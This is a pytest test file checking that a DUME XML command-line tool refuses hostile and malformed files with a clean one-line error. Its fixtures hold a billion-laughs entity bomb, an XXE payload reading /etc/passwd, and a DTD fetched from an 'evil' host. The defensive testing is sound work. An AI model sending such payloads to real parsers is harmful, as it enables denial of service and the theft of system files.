"""Hostile and broken input: one-line error, exit code 2, no traceback, no network, no file read."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.errors import DocumentRefusedError
from app.espdxml import safe
from tests.core.cli_support import run_dume

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<QualificationApplicationRequest>&lol4;</QualificationApplicationRequest>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<QualificationApplicationRequest
 xmlns="urn:oasis:names:specification:ubl:schema:xsd:QualificationApplicationRequest-2">&secret;
</QualificationApplicationRequest>"""

NETWORK_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://198.51.100.7/evil.dtd">
<QualificationApplicationRequest/>"""

CASES = {
    "billion-laughs.xml": (BILLION_LAUGHS, "DTD"),
    "external-entity.xml": (EXTERNAL_ENTITY, "DTD"),
    "network-dtd.xml": (NETWORK_DTD, "DTD"),
    "malformed.xml": (b"<QualificationApplicationRequest><cbc:ID>", "mal formé"),
    "wrong-root.xml": (
        b"<?xml version='1.0'?><invoice><id>1</id></invoice>",
        "pas un document DUME",
    ),
    "empty.xml": (b"", "vide"),
    "binary.xml": (bytes(range(256)) * 8, "binaire"),
    "not-xml.xml": (b"%PDF-1.7 this is a PDF", "mal formé"),
}


def _assert_refused(result_stderr: str, returncode: int, expected: str) -> None:
    assert returncode == 2
    lines = result_stderr.strip().splitlines()
    assert len(lines) == 1, result_stderr
    assert "Traceback" not in result_stderr
    assert expected in lines[0]


@pytest.mark.parametrize("name", sorted(CASES))
def test_validate_refuses_hostile_or_broken_file(tmp_path: Path, name: str) -> None:
    data, expected = CASES[name]
    path = tmp_path / name
    path.write_bytes(data)
    result = run_dume("validate", path)
    _assert_refused(result.stderr, result.returncode, expected)
    assert result.stdout == ""


@pytest.mark.parametrize("name", sorted(CASES))
def test_info_refuses_hostile_or_broken_file(tmp_path: Path, name: str) -> None:
    data, expected = CASES[name]
    path = tmp_path / name
    path.write_bytes(data)
    result = run_dume("info", path, "--json")
    _assert_refused(result.stderr, result.returncode, expected)


def test_huge_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "huge.xml"
    with path.open("wb") as stream:  # sparse: 200 MB on paper, nothing on disk
        stream.truncate(200 * 1024 * 1024)
    result = run_dume("validate", path)
    _assert_refused(result.stderr, result.returncode, "trop volumineux")


def test_entities_are_never_expanded_in_process() -> None:
    with pytest.raises(DocumentRefusedError, match="DTD"):
        safe.parse_bytes(EXTERNAL_ENTITY, "x.xml")


def test_missing_file_and_directory_are_clear_errors(tmp_path: Path) -> None:
    result = run_dume("validate", tmp_path / "absent.xml")
    _assert_refused(result.stderr, result.returncode, "introuvable")
    result = run_dume("validate", tmp_path)
    _assert_refused(result.stderr, result.returncode, "dossier")
